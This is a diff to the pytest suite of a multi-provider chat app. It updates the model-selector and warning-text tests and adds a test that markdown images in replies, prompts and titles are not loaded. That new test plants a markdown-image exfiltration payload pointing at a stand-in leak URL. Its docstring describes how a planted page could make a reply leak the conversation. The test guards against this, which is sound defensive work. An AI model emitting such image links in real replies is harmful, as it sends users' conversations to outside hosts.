@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from byok_core import conversations as convs
@@ -48,7 +50,12 @@ def test_reply_is_streamed_stored_and_says_who_paid(app, rt, environ, monkeypatc
         chat_env(environ, monkeypatch, fake)
         at = page(rt, ann)
         assert at.selectbox(key="chat_provider").value is Provider.OPENAI  # default: first usable key
-        assert at.selectbox(key="chat_model").value == "gpt-4o-mini"
+        assert at.selectbox(key="chat_model_openai").value == "gpt-4o-mini"
+        at.selectbox(key="chat_provider").set_value(Provider.ANTHROPIC).run()
+        anthropic_model = at.selectbox(key="chat_model_anthropic").value
+        assert anthropic_model and anthropic_model.startswith("claude")  # not OpenAI's model carried over
+        at.selectbox(key="chat_provider").set_value(Provider.OPENAI).run()
+        assert at.selectbox(key="chat_model_openai").value == "gpt-4o-mini"
         ask(at, "Say hello")
     assert at.title[0].value == "Say hello"  # the new conversation is titled from the first prompt
     replies = [m for m in at.chat_message if m.name == "assistant"]
@@ -77,7 +84,7 @@ def test_unknown_price_is_shown_as_unknown_and_team_key_named(app, rt, environ, 
 def test_no_key_links_to_the_keys_page(app, rt):
     ann = make_user(rt, "ann")
     at = page(rt, ann)
-    at.selectbox(key="chat_model").set_value("gpt-4o-mini")
+    at.selectbox(key="chat_model_openai").set_value("gpt-4o-mini")
     ask(at, "hello?")
     assert at.error and "No API key for OpenAI" in at.error[0].value
     assert any("Keys page" in link.value for link in at.page_link)
@@ -96,12 +103,12 @@ def test_rejected_key_and_rate_limit_and_cut_off_in_plain_words(app, rt, environ
         chat_env(environ, monkeypatch, fake)
         at = page(rt, ann)
         ask(at, "two")
-        assert at.warning and "17 seconds" in at.warning[-1].value
+        assert at.warning and at.warning[-1].value.count("17 seconds") == 1  # said once, not twice
     with FakeProvider(Provider.OPENAI, reply="partial text that goes on", cut_after=2) as fake:
         chat_env(environ, monkeypatch, fake)
         at = page(rt, ann)
         ask(at, "three")
-        assert at.warning and "partial reply above is kept" in at.warning[-1].value
+        assert at.warning and at.warning[-1].value.count("the text so far is kept") == 1
     [conv] = [c for c in convs.list_conversations(rt, ann.id) if c.title == "three"]
     reply = convs.messages(rt, ann.id, conv.id)[-1]
     assert reply.meta["status"] == "cut_off" and reply.content  # the partial text is kept
@@ -164,3 +171,19 @@ def test_search_page_side_by_side(app, rt, environ, monkeypatch):
     frame = at.dataframe[0].value
     assert list(frame["URL"])[:1] == ["https://example.com/one"]
     assert set(frame.columns) >= {"Title", "URL", "Snippet", "Provider"}
+
+
+def test_images_in_replies_prompts_and_titles_are_not_loaded(app, rt, environ, monkeypatch):
+    """A markdown image makes the browser fetch its URL with no click: a planted page could leak
+    the conversation through it. Replies, prompts and titles show images as plain text."""
+    ann = make_user(rt, "ann")
+    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
+    leak = "![x](http://127.0.0.1:9/leak?q=secret)"
+    with FakeProvider(Provider.OPENAI, reply=f"Here you go {leak}") as fake:
+        chat_env(environ, monkeypatch, fake)
+        at = page(rt, ann)
+        ask(at, f"show {leak}")
+    shown = [md.value for m in at.chat_message for md in m.markdown]
+    assert any("Here you go" in text for text in shown)
+    assert not any(re.search(r"(?<!\\)!\[", text) for text in shown + [at.title[0].value]), shown
+    assert not any(re.search(r"(?<!\\)!\[", b.label) for b in at.button)
